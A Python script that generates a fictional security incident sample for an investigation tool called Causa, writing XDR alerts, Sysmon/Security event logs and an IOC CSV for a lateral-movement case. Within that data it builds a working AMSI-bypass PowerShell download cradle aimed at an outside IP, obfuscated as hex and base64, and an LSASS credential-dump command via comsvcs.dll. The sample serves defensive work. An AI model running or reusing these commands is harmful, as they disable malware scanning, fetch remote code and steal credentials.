#!/usr/bin/env python3
"""Writes Causa's bundled sample case (fictional, written by the project).

Host FIN-WS-042 in a fictional bank: a renamed, unsigned PsExec-like service started by an admin
workstation runs cmd.exe /c powershell -nop -w hidden -enc <AMSI bypass + download cradle to an
IP written in hex>; three minutes later the same service chain dumps LSASS through comsvcs.dll.
Outputs: the XDR incident (get_incident_extra_data shape), Sysmon/Security events (JSON lines),
and an IOC feed (CSV) that knows the service binary's hash. Run it to regenerate the files.
"""
import base64, hashlib, json, datetime

def h(name, algo="sha256"):
    return hashlib.new(algo, ("causa-sample:" + name).encode()).hexdigest()

C2 = "185.220.101.42"
C2_HEX = "0x" + "".join("%02X" % int(p) for p in C2.split("."))
payload = ("$a=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils');"
           "$a.GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true);"
           "IEX (New-Object Net.WebClient).DownloadString('http://%s:8080/update.ps1')" % C2_HEX)
enc = base64.b64encode(payload.encode("utf-16-le")).decode()
ps_cmd = "powershell -nop -w hidden -enc " + enc
cmd_cmd = "cmd.exe /c " + ps_cmd

T0 = 1795078443000  # 2026-11-20 09:14:03 UTC
svc_sha = h("winupdsvc.exe")
svc_md5 = h("winupdsvc.exe", "md5")
HOST = "FIN-WS-042"
AGENT = "a3f1c2d4e5b6478899aabbccddeeff01"
SRC = "10.20.30.15"   # WKS-ADMIN-07, where the remote execution came from
HOST_IP = "10.20.40.42"
USER = "CORP\\svc_backup"
RULE = "f2282012-53aa-44f0-bda2-e45cd6b8b61a"

def proc(prefix, name, path, cmdline, pid, sha, md5, sig, vendor, inst):
    return {
        prefix + "_image_name": name, prefix + "_image_path": path,
        (prefix + "_image_command_line" if prefix == "action_process" else prefix + "_command_line"): cmdline,
        prefix + "_os_pid": pid, prefix + "_image_sha256": sha, prefix + "_image_md5": md5,
        prefix + "_signature_status": sig, prefix + "_signature_vendor": vendor,
        prefix + "_instance_id": inst, prefix + "_causality_id": "AdcN3mB1c2QAAB2cAAAAAA==",
    }

common = {
    "source": "XDR Analytics BIOC", "host_ip": HOST_IP, "host_name": HOST, "user_name": USER,
    "endpoint_id": AGENT, "agent_os_type": "Windows", "agent_device_domain": "corp.example",
    "event_type": "Process Execution", "action_remote_ip": SRC, "action_remote_port": 445,
    "action_local_ip": HOST_IP, "action_local_port": 445,
    "causality_actor_process_image_name": "winupdsvc.exe",
    "causality_actor_process_image_path": "C:\\Windows\\winupdsvc.exe",
    "causality_actor_process_command_line": "C:\\Windows\\winupdsvc.exe",
    "causality_actor_process_image_sha256": svc_sha, "causality_actor_process_image_md5": svc_md5,
    "causality_actor_process_signature_status": "SIGNATURE_UNSIGNED",
    "causality_actor_process_signature_vendor": None,
    "causality_actor_causality_id": "AdcN3mB1c2QAAB2cAAAAAA==",
    "causality_actor_process_execution_time": T0 - 4000,
    "case_id": 4242,
}
cmd_sha, cmd_md5 = "b99d114b267ffd068c3289199b6df95a9f9e64872d6c2b666d63974bbce75bf2", "ad7b9c14083b52bc532fba5948342b98"
ps_sha, ps_md5 = "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c", "7353f60b1739074eb17c5f4dddefe239"
rd_sha, rd_md5 = "2ba7a6a3fd3a4ca4c3e29ac3d0a7a0c4e1bd4dc2dbd6f1b8e1b48c42d1f2e4a7", "c2a8e2c0c8e6b8b5b9a1e8e0a4d7c3f1"

alert1 = dict(common)
alert1.update({
    "alert_id": "31337", "external_id": "c1f0a9e2-6b1d-4e3a-9a55-0d6c4e2b7f10",
    "detection_timestamp": T0, "severity": "medium",
    "name": "Remote PsExec-like LOLBIN command execution from an unsigned non-standard PsExec service",
    "category": "Lateral Movement", "action": "DETECTED", "action_pretty": "Detected (Reported)",
    "description": "A PsExec-like service ran a LOLBIN (powershell.exe) on the host",
    "matching_service_rule_id": RULE,
    "mitre_tactic_id_and_name": ["TA0008 - Lateral Movement", "TA0002 - Execution"],
    "mitre_technique_id_and_name": ["T1021.002 - Remote Services: SMB/Windows Admin Shares",
                                     "T1059.001 - Command and Scripting Interpreter: PowerShell"],
})
alert1.update(proc("actor_process", "winupdsvc.exe", "C:\\Windows\\winupdsvc.exe", "C:\\Windows\\winupdsvc.exe",
                   3320, svc_sha, svc_md5, "SIGNATURE_UNSIGNED", None, "AdcN3mB1c2QAAB2cAAAAAA=="))
alert1.update(proc("os_actor_process", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", cmd_cmd,
                   6112, cmd_sha, cmd_md5, "SIGNATURE_SIGNED", "Microsoft Corporation", "AdcN3mCE9tQAABf4AAAAAA=="))
alert1.update(proc("action_process", "powershell.exe",
                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", ps_cmd,
                   7344, ps_sha, ps_md5, "SIGNATURE_SIGNED", "Microsoft Corporation", "AdcN3mDt1bQAABywAAAAAA=="))
alert1["os_actor_effective_username"] = "NT AUTHORITY\\SYSTEM"

dump_cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full"
alert2 = dict(common)
alert2.update({
    "alert_id": "31338", "external_id": "5e2b8c41-0f7a-4d6e-b3a2-91c7d4e8a6b2",
    "detection_timestamp": T0 + 187000, "severity": "high",
    "name": "Suspicious LSASS memory dump via comsvcs.dll MiniDump",
    "category": "Credential Access", "action": "DETECTED", "action_pretty": "Detected (Reported)",
    "description": "rundll32.exe called comsvcs.dll MiniDump on lsass.exe",
    "matching_service_rule_id": "8c4a1a2e-3b5d-4e9f-a7c6-2d1e0f9b8a74",
    "mitre_tactic_id_and_name": "TA0006 - Credential Access",
    "mitre_technique_id_and_name": "T1003.001 - OS Credential Dumping: LSASS Memory",
})
alert2.update(proc("actor_process", "winupdsvc.exe", "C:\\Windows\\winupdsvc.exe", "C:\\Windows\\winupdsvc.exe",
                   3320, svc_sha, svc_md5, "SIGNATURE_UNSIGNED", None, "AdcN3mB1c2QAAB2cAAAAAA=="))
alert2.update(proc("os_actor_process", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c " + dump_cmd,
                   6980, cmd_sha, cmd_md5, "SIGNATURE_SIGNED", "Microsoft Corporation", "AdcN3mF2aPQAABtEAAAAAA=="))
alert2.update(proc("action_process", "rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", dump_cmd,
                   7012, rd_sha, rd_md5, "SIGNATURE_SIGNED", "Microsoft Corporation", "AdcN3mF5bLQAABtkAAAAAA=="))

incident = {"reply": {
    "incident": {
        "incident_id": "4242", "incident_name": None, "creation_time": T0 + 2000,
        "modification_time": T0 + 190000, "detection_time": None, "status": "new", "severity": "medium",
        "description": "'Remote PsExec-like LOLBIN command execution from an unsigned non-standard PsExec service' along with 1 other alert generated by XDR Analytics BIOC detected on host FIN-WS-042 involving user CORP\\svc_backup",
        "assigned_user_mail": None, "assigned_user_pretty_name": None, "alert_count": 2,
        "low_severity_alert_count": 0, "med_severity_alert_count": 1, "high_severity_alert_count": 1,
        "critical_severity_alert_count": 0, "user_count": 1, "host_count": 1, "notes": None,
        "resolve_comment": None, "manual_severity": None, "manual_description": None,
        "xdr_url": "https://tenant.xdr.example/incident-view?caseId=4242", "starred": False,
        "hosts": [HOST.lower() + ":" + AGENT], "users": [USER], "incident_sources": ["XDR Analytics BIOC"],
    },
    "alerts": {"total_count": 2, "data": [alert1, alert2]},
    "network_artifacts": {"total_count": 1, "data": [
        {"type": "IP", "alert_count": 1, "is_manual": False, "network_domain": None,
         "network_remote_ip": SRC, "network_remote_port": 445, "network_country": "UNKNOWN"}]},
    "file_artifacts": {"total_count": 1, "data": [
        {"type": "HASH", "alert_count": 2, "is_manual": False, "is_malicious": False, "is_process": True,
         "file_name": "winupdsvc.exe", "file_sha256": svc_sha, "file_signature_status": "SIGNATURE_UNSIGNED",
         "file_signature_vendor_name": None, "file_wildfire_verdict": "UNKNOWN", "low_confidence": False}]},
}}
with open("fin-ws-042-incident.json", "w") as f:
    json.dump(incident, f, indent=2)
    f.write("\n")

def utc(ms):
    return datetime.datetime.utcfromtimestamp(ms / 1000).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]

HOSTFQDN = "FIN-WS-042.corp.example"
G = {"services": "{7c1e2a10-0001-6a4f-0b00-000000002500}", "svc": "{7c1e2a10-3b10-6a4f-4a02-000000002500}",
     "cmd": "{7c1e2a10-3b12-6a4f-4c02-000000002500}", "ps": "{7c1e2a10-3b13-6a4f-4d02-000000002500}",
     "cmd2": "{7c1e2a10-3bc8-6a4f-5102-000000002500}", "rd": "{7c1e2a10-3bc9-6a4f-5202-000000002500}"}
def sysmon(eid, ms, **kw):
    e = {"EventID": eid, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": HOSTFQDN,
         "SourceName": "Microsoft-Windows-Sysmon", "UtcTime": utc(ms), "EventTime": utc(ms)[:19]}
    e.update(kw)
    return e
def hashes(md5, sha):
    return "MD5=%s,SHA256=%s" % (md5.upper(), sha.upper())
ev = []
ev.append({"EventID": 4624, "Channel": "Security", "Hostname": HOSTFQDN, "EventTime": utc(T0 - 9000)[:19],
           "LogonType": "3", "IpAddress": SRC, "IpPort": "50412", "TargetUserName": "svc_backup",
           "TargetDomainName": "CORP", "TargetLogonId": "0x3e7a1f2", "AuthenticationPackageName": "NTLM",
           "WorkstationName": "WKS-ADMIN-07", "ImpersonationLevel": "%%1833"})
ev.append({"EventID": 5145, "Channel": "security", "Hostname": HOSTFQDN, "EventTime": utc(T0 - 8000)[:19],
           "ShareName": "\\\\*\\ADMIN$", "ShareLocalPath": "\\??\\C:\\Windows", "RelativeTargetName": "winupdsvc.exe",
           "IpAddress": SRC, "IpPort": "50413", "SubjectUserName": "svc_backup", "SubjectDomainName": "CORP",
           "AccessMask": "0x2", "AccessList": "%%4417"})
ev.append({"EventID": 7045, "Channel": "System", "Hostname": HOSTFQDN, "EventTime": utc(T0 - 6000)[:19],
           "ServiceName": "WinUpdSvc", "ImagePath": "%SystemRoot%\\winupdsvc.exe", "ServiceType": "user mode service",
           "StartType": "demand start", "AccountName": "LocalSystem"})
ev.append(sysmon(1, T0 - 4000, ProcessGuid=G["svc"], ProcessId=3320, Image="C:\\Windows\\winupdsvc.exe",
                 CommandLine="C:\\Windows\\winupdsvc.exe", CurrentDirectory="C:\\Windows\\system32\\",
                 User="NT AUTHORITY\\SYSTEM", IntegrityLevel="System", Hashes=hashes(svc_md5, svc_sha),
                 ParentProcessGuid=G["services"], ParentProcessId=688, ParentImage="C:\\Windows\\System32\\services.exe",
                 ParentCommandLine="C:\\Windows\\system32\\services.exe"))
ev.append(sysmon(17, T0 - 3500, EventType="CreatePipe", ProcessGuid=G["svc"], ProcessId=3320,
                 PipeName="\\winupdsvc-WKS-ADMIN-07-4412-stdin", Image="C:\\Windows\\winupdsvc.exe"))
ev.append(sysmon(17, T0 - 3490, EventType="CreatePipe", ProcessGuid=G["svc"], ProcessId=3320,
                 PipeName="\\winupdsvc-WKS-ADMIN-07-4412-stdout", Image="C:\\Windows\\winupdsvc.exe"))
ev.append(sysmon(1, T0 - 600, ProcessGuid=G["cmd"], ProcessId=6112, Image="C:\\Windows\\System32\\cmd.exe",
                 CommandLine=cmd_cmd, CurrentDirectory="C:\\Windows\\system32\\", User="NT AUTHORITY\\SYSTEM",
                 IntegrityLevel="System", Hashes=hashes(cmd_md5, cmd_sha), ParentProcessGuid=G["svc"],
                 ParentProcessId=3320, ParentImage="C:\\Windows\\winupdsvc.exe", ParentCommandLine="C:\\Windows\\winupdsvc.exe"))
ev.append(sysmon(1, T0, ProcessGuid=G["ps"], ProcessId=7344,
                 Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine=ps_cmd,
                 CurrentDirectory="C:\\Windows\\system32\\", User="NT AUTHORITY\\SYSTEM", IntegrityLevel="System",
                 Hashes=hashes(ps_md5, ps_sha), ParentProcessGuid=G["cmd"], ParentProcessId=6112,
                 ParentImage="C:\\Windows\\System32\\cmd.exe", ParentCommandLine=cmd_cmd))
ev.append(sysmon(3, T0 + 2100, ProcessGuid=G["ps"], ProcessId=7344,
                 Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", User="NT AUTHORITY\\SYSTEM",
                 Protocol="tcp", Initiated="true", SourceIp=HOST_IP, SourceHostname=HOSTFQDN, SourcePort="51234",
                 DestinationIp=C2, DestinationHostname="", DestinationPort="8080"))
ev.append(sysmon(11, T0 + 2600, ProcessGuid=G["ps"], ProcessId=7344,
                 Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 TargetFilename="C:\\Windows\\Temp\\update.ps1", CreationUtcTime=utc(T0 + 2600)))
ev.append(sysmon(1, T0 + 186000, ProcessGuid=G["cmd2"], ProcessId=6980, Image="C:\\Windows\\System32\\cmd.exe",
                 CommandLine="cmd.exe /c " + dump_cmd, User="NT AUTHORITY\\SYSTEM", IntegrityLevel="System",
                 Hashes=hashes(cmd_md5, cmd_sha), ParentProcessGuid=G["svc"], ParentProcessId=3320,
                 ParentImage="C:\\Windows\\winupdsvc.exe", ParentCommandLine="C:\\Windows\\winupdsvc.exe"))
ev.append(sysmon(1, T0 + 186500, ProcessGuid=G["rd"], ProcessId=7012, Image="C:\\Windows\\System32\\rundll32.exe",
                 CommandLine=dump_cmd, User="NT AUTHORITY\\SYSTEM", IntegrityLevel="System",
                 Hashes=hashes(rd_md5, rd_sha), ParentProcessGuid=G["cmd2"], ParentProcessId=6980,
                 ParentImage="C:\\Windows\\System32\\cmd.exe", ParentCommandLine="cmd.exe /c " + dump_cmd))
ev.append(sysmon(11, T0 + 187000, ProcessGuid=G["rd"], ProcessId=7012, Image="C:\\Windows\\System32\\rundll32.exe",
                 TargetFilename="C:\\Windows\\Temp\\dbg.dmp", CreationUtcTime=utc(T0 + 187000)))
ev.append(sysmon(13, T0 + 190000, EventType="SetValue", ProcessGuid=G["svc"], ProcessId=3320,
                 Image="C:\\Windows\\winupdsvc.exe",
                 TargetObject="HKLM\\System\\CurrentControlSet\\Services\\WinUpdSvc\\Start", Details="DWORD (0x00000004)"))
with open("fin-ws-042-events.jsonl", "w") as f:
    for e in ev:
        f.write(json.dumps(e) + "\n")

with open("fin-ws-042-iocs.csv", "w") as f:
    f.write("type,value,score,confidence,tlp,description\n")
    f.write("sha256,%s,3,90,AMBER,Renamed PsExec-like service binary seen in FIN-sector intrusions\n" % svc_sha)
    f.write("ipv4,203.0.113.77,3,70,GREEN,Staging server (unrelated to this case)\n")
print("C2 hex:", C2_HEX, "payload chars:", len(payload))
